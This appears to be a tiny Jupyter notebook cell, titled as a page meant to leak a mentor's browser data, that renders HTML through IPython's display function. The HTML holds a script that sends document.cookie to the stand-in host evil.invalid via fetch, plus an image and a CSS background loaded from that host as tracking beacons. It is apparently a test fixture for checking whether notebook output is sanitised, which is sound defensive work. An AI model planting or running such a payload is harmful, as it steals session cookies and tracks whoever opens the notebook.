# ---
# title: A page that would send away what the mentor's browser knows.
# ---
# %% added
from IPython.display import HTML, display

display(HTML("<script>fetch('http://evil.invalid/?'+document.cookie)</script><img src='http://evil.invalid/seen.png'><div style=\"background:url('http://evil.invalid/b.png')\">x</div>"))
